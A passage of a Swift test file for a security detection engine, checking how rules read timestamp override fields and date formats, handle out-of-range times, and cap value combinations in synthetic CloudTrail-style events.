      #"{"_id":"b","@timestamp":"2026-01-01T00:00:00Z","event":{"action":"x","id":"b","start":"2025-12-31T10:00:00Z"}}"#,
    ].joined(separator: "\n")
    let alerts = try TestHunt([rule]).alerts(lines)
    #expect(try alerts.map { try $0.document["event"]?["id"] } == ["b"])
    #expect(alerts.first?.tick.iso8601 == "2025-12-31T10:00:00.000Z")
    rule.timestampOverrideFallbackDisabled = false
    #expect(try TestHunt([rule]).alerts(lines).count == 2)
  }

  @Test("The timestamp that overrides is read, and asked for, in the format that the mapping gives it")
  func overrideFormat() throws {
    var rule = Rule.query("event.action: *")
    rule.timestampOverride = "custom.at"
    rule.timestampOverrideFallbackDisabled = true
    let mapping = try FieldMapping([
      "properties": ["custom.at": ["type": "date", "format": "dd/MM/yyyy HH:mm||epoch_second"]]
    ])
    func line(_ id: String, _ time: String) -> String {
      #"{"_id":"\#(id)","@timestamp":"2026-01-01T00:00:00Z","event":{"action":"x","id":"\#(id)"},"custom":{"at":\#(time)}}"#
    }
    let lines = [line("a", #""02/01/2026 10:00""#), line("b", #""2026-01-02T10:00:00Z""#)].joined(separator: "\n")
    let catalog = FieldCatalog.standard.applying(mapping)
    let alerts = try TestHunt([rule], catalog: catalog).alerts(lines + "\n" + line("c", "1767348000"))
    #expect(try Set(alerts.map { try $0.document["event"]?["id"]?.stringValue }) == ["a", "c"])
    #expect(Set(alerts.map(\.tick.iso8601)) == ["2026-01-02T10:00:00.000Z"])
    let query = try #require(try alerts.first?.document["martlet"]?["evidence"]?["query"]?.stringValue)
    #expect(query.contains(#"custom.at >= "02/01/2026 "#), "\(query)")
    #expect(QueryJudge(catalog).refusal(of: try KQL.parse(query)) == nil)
    // Without the mapping ISO is what is read.
    #expect(try TestHunt([rule]).alerts(lines).map { try $0.document["event"]?["id"] } == ["b"])
  }

  @Test("The field that overrides the timestamp is read for a rule alone as for one among others")
  func overrideAlone() throws {
    var rule = Rule.query("event.action: GetObject")
    rule.timestampOverride = "aws.cloudtrail.user_identity.session_context.creation_date"
    rule.timestampOverrideFallbackDisabled = true
    let text =
      #"{"eventID":"1","eventTime":"2026-01-01T00:02:00Z","eventName":"GetObject","userIdentity":{"type":"AssumedRole","sessionContext":{"attributes":{"creationDate":"2026-01-01T01:00:00Z"}}}}"#
    for others in [[], [Rule.query("user.name: x", id: "other")]] {
      let alert = try #require(TestHunt([rule] + others).alerts(text).first)
      #expect(alert.tick.iso8601 == "2026-01-01T01:00:00.000Z")
      let query = try alert.document["martlet"]?["evidence"]?["query"]?.stringValue
      #expect(query?.contains("creation_date >= ") == true)
    }
  }

  @Test("Times beyond the calendar are no times, and end nothing")
  func timesBeyondTheCalendar() throws {
    let lines = ["-9223372036854775808", "9223372036854775807", "1000000000000000"].map {
      #"{"@timestamp":\#($0),"event":{"action":"A"}}"# + "\n"
        + #"{"eventID":"\#($0)","eventTime":\#($0),"eventName":"A"}"#
    }
    let good = #"{"eventID":"1","eventTime":"2026-01-01T00:02:00Z","eventName":"A"}"#
    let rule = try Rule.newTerms("event.action: A", ["event.action"], history: "now-14d")
    let alerts = try TestHunt([rule, .query("*")]).alerts((lines + [good]).joined(separator: "\n"))
    #expect(Set(alerts.map(\.eventTime.iso8601)) == ["2026-01-01T00:02:00.000Z"])
  }

  @Test("Of an event with millions of combinations a bounded number counts, and the summary tells")
  func combinations() throws {
    let values = (0..<150).map { "\"v\($0)\"" }.joined(separator: ",")
    let text =
      #"{"eventID":"1","eventTime":"2026-01-01T00:02:00Z","eventName":"A","requestParameters":{"a":[\#(values)],"b":[\#(values)]}}"#
    let root = "aws.cloudtrail.flattened.request_parameters."
    var rule = try Rule.newTerms("event.action: A", [root + "a", root + "b"], history: "now-1d")
    rule.schedule.maxSignals = 100_000
    let result = try TestHunt([rule]).run([[text]])
    #expect(result.alertCount == HuntCollector.mostNotes && result.outcomes[0].cutEvents == 1)
  }
}
